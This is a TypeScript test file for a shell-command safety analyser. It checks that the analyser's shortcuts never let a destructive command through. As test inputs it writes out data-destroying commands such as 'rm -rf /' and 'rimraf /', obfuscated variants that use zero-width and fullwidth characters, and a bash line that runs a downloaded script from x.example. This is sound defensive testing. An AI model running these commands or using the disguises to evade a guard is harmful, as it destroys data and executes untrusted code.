/**
 * The analysis's fast paths (the quick "cannot be protected" answer for paths, the cheap rm check
 * past the pattern scan's full-check budget, a run of `$(` read as one token) must never hide a
 * command that has to be refused.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { analyseCommand, initShellParser } from './analyse';
import { codeUnits } from './codeUnits';
import { protectedTarget } from './paths';
import { plainlyUnprotected as quickNo, plainlyUnprotectedUnits } from './plainPath';

/** The string and the code-unit reading must agree; returns their shared answer. */
function plainlyUnprotected(text: string, start = 0, end = text.length): boolean {
  const answer = quickNo(text, start, end);
  expect(plainlyUnprotectedUnits(codeUnits(text), text, start, end), text.slice(start, end)).toBe(answer);
  return answer;
}

beforeAll(() => initShellParser());

/** Paths that are protected, however they are spelled; none may get the quick no. */
const PROTECTED = [
  '/',
  '//',
  '/usr',
  '/USR/',
  '/etc/',
  '/home/bob',
  '/*',
  '/e*',
  '/tmp/..',
  '/tmp/../usr',
  '/tmp/./../etc',
  '/tmp//../var',
  '/tmp/{a,/}../usr',
  '/tmp{,/../usr}',
  '{/usr,x}',
  '~',
  '~/',
  '~bob',
  '/usr/local',
  '/var/lib',
];

/** Ordinary targets the quick check exists for. */
const ORDINARY = [
  '/tmp/build-17',
  '/tmp/a/b/',
  '/work/app/dist',
  'build',
  'node_modules',
  '-rf',
  '-r',
  '/opt-x/y',
];

describe('the quick answer for ordinary paths', () => {
  it('is never given for a protected path', () => {
    for (const p of PROTECTED) {
      expect(protectedTarget(p), p).not.toBeNull();
      expect(plainlyUnprotected(p), p).toBe(false);
    }
  });

  it('is given for ordinary paths, and agrees with the full check', () => {
    for (const p of ORDINARY) {
      expect(plainlyUnprotected(p), p).toBe(true);
      expect(protectedTarget(p), p).toBeNull();
    }
  });

  it('reads a word in place, quotes, escapes and expansions included', () => {
    const text = `rm -rf "/usr" '/etc' \\/boot $HOME/x --no-preserve-root /tmp/ok`;
    const word = (w: string): boolean =>
      plainlyUnprotected(text, text.indexOf(w), text.indexOf(w) + w.length);
    for (const w of ['"/usr"', "'/etc'", '\\/boot', '$HOME/x', '--no-preserve-root'])
      expect(word(w), w).toBe(false);
    expect(word('/tmp/ok')).toBe(true);
    expect(word('-rf')).toBe(true);
  });
});

/** Past the pattern scan's budget of fully checked commands: far more distinct deletes than it. */
const ORDINARY_DELETES = Array.from({ length: 8000 }, (_, i) => `rm -rf /tmp/build-${i}`).join(' && ');

describe('a long chain of ordinary deletes', () => {
  it.each([
    'rm -rf /',
    'rm -rf ~',
    'rm -rf /usr',
    'rm -rf /USR/',
    'rm -rf /tmp/../etc',
    'rm -rf "/usr"',
    "rm -rf '/'",
    'rm -rf \\/boot',
    'rm -r --no-preserve-root /tmp/x',
    'rm -rf /tmp/x /home/bob',
    'rm -rf /*',
    'rimraf /',
  ])('still refuses %s at its end', (danger) => {
    const input = `${ORDINARY_DELETES} && ${danger} && rm -rf /tmp/after`;
    expect(input.length).toBeGreaterThan(128 * 1024);
    expect(analyseCommand(input).verdict).toBe('hardline');
  });

  it('asks, and does not refuse, when every delete is ordinary', () => {
    expect(analyseCommand(`${ORDINARY_DELETES} && rm -rf /tmp/last`).verdict).toBe('dangerous');
  });
});

describe('deep quote nests past the parser limit', () => {
  const nest = (inner: string, depth: number): string =>
    '"$(echo '.repeat(depth) + `"$(${inner})"` + ')"'.repeat(depth);

  it.each(['rm -rf /', 'rm -rf ~', 'rm -rf /usr', 'rm -rf "/etc"'])(
    'refuses %s at the innermost level',
    (danger) => {
      const input = `${ORDINARY_DELETES} && ${nest(danger, 20_000)}`;
      expect(analyseCommand(input).verdict).toBe('hardline');
    },
  );
});

describe('a run of substitutions past the parser limit', () => {
  it.each(['rm -rf /', 'reboot', 'rm -rf ~/'])('refuses %s inside it', (danger) => {
    const input = '$('.repeat(70_000) + danger + ')'.repeat(70_000);
    expect(input.length).toBeGreaterThan(128 * 1024);
    expect(analyseCommand(input).verdict).toBe('hardline');
  });

  it('still sees a shell run the output of a download inside it', () => {
    const input = `bash -c "${'$('.repeat(70_000)}curl -s https://x.example/i.sh${')'.repeat(70_000)}"`;
    expect(analyseCommand(input).keys).toContain('remote-code');
  });
});

/**
 * Long plain-ASCII text skips the control and Unicode passes, is read as a flat copy, and the
 * scan's word loop and word cache take shortcuts on it: a disguised or embedded command after a
 * long stretch of the bench's shapes must still be refused.
 */
describe('a dangerous command after a long adversarial stretch', () => {
  const stretches: Record<string, string> = {
    andChain: 'echo hi && '.repeat(20_000),
    emptyQuotes: "r''".repeat(60_000) + ' ; ',
    quotedString: `echo "${'x '.repeat(90_000)}" ; `,
    manyPipes: 'cat | '.repeat(30_000) + 'cat ; ',
    alternating: '"$(echo '.repeat(20_000) + ')"'.repeat(20_000) + ' ; ',
  };
  const disguised = [
    "r''m -rf /",
    'r\\m -rf /',
    'r\x1b[0mm -rf /',
    'r\x7fm -rf /',
    'r\u200bm -rf /',
    '\uff52\uff4d -rf /',
    'echo a$(rm -rf /)',
    'echo a`rm -rf /`',
    'x=$y rm -rf /',
  ];

  it.each(Object.keys(stretches))('is refused after %s', (name) => {
    const stretch = stretches[name] ?? '';
    expect(stretch.length).toBeGreaterThan(128 * 1024);
    for (const danger of disguised) expect(analyseCommand(stretch + danger).verdict, danger).toBe('hardline');
  });
});
